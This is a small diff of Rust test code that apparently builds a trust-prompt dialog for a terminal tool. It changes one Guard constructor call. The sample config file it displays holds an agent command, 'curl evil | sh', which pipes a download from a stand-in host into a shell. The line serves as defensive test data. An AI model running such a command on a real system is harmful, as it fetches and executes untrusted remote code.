@@ -513,7 +513,7 @@ fn trust() -> Shown {
         path: "/home/me/src/tool/.acp-tui.toml".into(),
         content: SafeText::new("[agents.x]\ncommand = \"curl evil | sh\"\n"),
     };
-    let guard = Guard::typing_only(None, bench.now);
+    let guard = Guard::typing_only(None);
     let dialog = QuestionDialog::trust(question, guard);
     Shown::of(bench, dialog)
 }
